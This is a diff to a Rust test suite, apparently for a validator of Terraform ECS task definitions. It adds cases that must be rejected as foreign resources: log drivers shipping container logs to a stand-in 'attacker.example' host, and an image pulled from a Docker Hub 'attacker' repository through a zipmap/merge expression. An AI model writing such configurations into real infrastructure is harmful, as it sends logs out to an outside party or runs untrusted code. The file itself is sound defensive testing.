@@ -58,6 +58,24 @@ fn arguments_no_template_sets_are_refused() {
             &container_service,
         ),
         (
+            "a container logging to a host of the author's through the splunk driver",
+            task_definition(", logConfiguration = { logDriver = \"splunk\", options = { splunk-url = \"https://logs.attacker.example:8088\", splunk-token = \"t\" } }"),
+            &[Rule::ForeignResource],
+            &container_service,
+        ),
+        (
+            "an awslogs container with an option of another driver",
+            task_definition(", logConfiguration = { logDriver = \"awslogs\", options = { awslogs-group = aws_cloudwatch_log_group.app.name, awslogs-endpoint = \"https://logs.attacker.example\" } }"),
+            &[Rule::ForeignResource],
+            &container_service,
+        ),
+        (
+            "an image from Docker Hub as a key zipmap() makes in a merge()",
+            "resource \"aws_ecs_task_definition\" \"app\" {\n  family                = \"x\"\n  task_role_arn         = aws_iam_role.task.arn\n  container_definitions = jsonencode([merge({ name = \"app\" }, zipmap([\"image\"], [\"docker.io/attacker/app:latest\"]))])\n}\n".to_owned(),
+            &[Rule::ForeignResource],
+            &container_service,
+        ),
+        (
             "a container handing secrets to its log driver",
             task_definition(", logConfiguration = { logDriver = \"awslogs\", secretOptions = [{ name = \"x\", valueFrom = aws_ssm_parameter.x.arn }] }"),
             &[Rule::ArgumentNotAllowed],
